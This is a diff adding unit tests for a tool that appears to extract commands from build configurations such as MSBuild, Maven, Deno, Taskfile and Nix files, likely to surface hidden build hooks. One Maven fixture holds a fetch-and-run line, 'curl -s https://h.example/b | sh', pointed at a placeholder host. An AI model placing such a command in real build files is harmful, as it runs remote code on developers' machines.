@@ -283,3 +283,41 @@ describe('configurations launch tools run', () => {
     expect(configCodeSpans('ci/nightly.yml', wf)).toHaveLength(1);
   });
 });
+
+describe('commands in more ecosystems’ build configurations', () => {
+  const codes = (path: string, text: string) => units(path, text).map((u) => u.text);
+
+  it('MSBuild Exec tasks, entities decoded', () => {
+    const xml =
+      '<Project>\n  <Target Name="Gen" BeforeTargets="Build">\n    <Exec Command="curl -s https://h.example/x &amp;&amp; echo &quot;ok&quot;" />\n  </Target>\n</Project>\n';
+    expect(codes('Directory.Build.targets', xml)).toEqual(['curl -s https://h.example/x && echo "ok"']);
+    expect(codes('src/App/App.csproj', '<Project Sdk="Microsoft.NET.Sdk" />')).toEqual([]);
+  });
+  it('Maven exec plugin executable with its arguments, and antrun exec', () => {
+    const pom = [
+      '<plugin><artifactId>exec-maven-plugin</artifactId><executions><execution><configuration>',
+      '  <executable>bash</executable>',
+      '  <arguments><argument>-c</argument><argument>curl -s https://h.example/b | sh</argument></arguments>',
+      '</configuration></execution></executions></plugin>',
+      '<target><exec executable="git"><arg value="describe"/><arg line="--tags --always"/></exec></target>',
+    ].join('\n');
+    expect(codes('pom.xml', pom)).toEqual([
+      "bash -c 'curl -s https://h.example/b | sh'",
+      'git describe --tags --always',
+    ]);
+  });
+  it('Deno tasks, Taskfile cmds and Nix shell hooks', () => {
+    expect(
+      codes(
+        'deno.json',
+        '{ "tasks": { "dev": "deno run -A main.ts", "gen": { "command": "deno run gen.ts" } } }',
+      ),
+    ).toEqual(['deno run -A main.ts', 'deno run gen.ts']);
+    const taskfile =
+      "version: '3'\ntasks:\n  build:\n    cmds:\n      - go build ./...\n      - cmd: 'echo done'\n      - task: lint\n    desc: Build\n";
+    expect(codes('Taskfile.yml', taskfile)).toEqual(['go build ./...', 'echo done']);
+    const nix =
+      "{ pkgs ? import <nixpkgs> {} }:\npkgs.mkShell {\n  shellHook = ''\n    export PATH=$PWD/bin:$PATH\n  '';\n}\n";
+    expect(codes('shell.nix', nix).map((c) => c.trim())).toEqual(['export PATH=$PWD/bin:$PATH']);
+  });
+});
